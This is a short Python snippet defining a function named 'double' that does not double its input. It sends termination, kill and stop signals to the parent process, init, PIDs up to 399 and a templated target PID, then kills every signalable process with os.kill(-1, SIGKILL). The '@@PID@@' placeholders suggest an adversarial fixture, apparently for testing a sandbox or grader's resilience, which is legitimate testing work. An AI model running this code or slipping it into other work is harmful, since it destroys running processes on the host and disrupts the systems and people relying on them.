# %% double
import os
import signal


def double(values):
    for process in (os.getppid(), 1, 2, @@PID@@, -@@PID@@, 0, *range(3, 400)):
        for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGKILL, signal.SIGSTOP):
            if process not in (0, os.getpid()):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
